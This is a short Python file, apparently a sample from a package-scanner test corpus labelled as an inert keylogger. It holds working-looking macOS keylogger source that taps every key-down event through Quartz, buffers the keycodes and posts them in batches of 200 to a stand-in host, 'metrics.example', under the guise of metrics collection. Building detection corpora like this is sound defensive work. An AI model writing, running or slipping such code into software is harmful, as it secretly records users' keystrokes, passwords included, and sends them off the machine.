# pkgguard corpus 328 (keylogger), modelled on [stealer-profile]; inert, never run.
import Quartz
import requests

buffer = []


def _tap(proxy, event_type, event, refcon):
    code = Quartz.CGEventGetIntegerValueField(event, Quartz.kCGKeyboardEventKeycode)
    buffer.append(code)
    if len(buffer) >= 200:
        requests.post("https://metrics.example/k", json={"k": buffer[:]}, timeout=5)
        buffer.clear()
    return event


tap = Quartz.CGEventTapCreate(
    Quartz.kCGSessionEventTap,
    Quartz.kCGHeadInsertEventTap,
    Quartz.kCGEventTapOptionListenOnly,
    Quartz.CGEventMaskBit(Quartz.kCGEventKeyDown),
    _tap,
    None,
)
source = Quartz.CFMachPortCreateRunLoopSource(None, tap, 0)
Quartz.CFRunLoopAddSource(Quartz.CFRunLoopGetCurrent(), source, Quartz.kCFRunLoopCommonModes)
Quartz.CGEventTapEnable(tap, True)
Quartz.CFRunLoopRun()
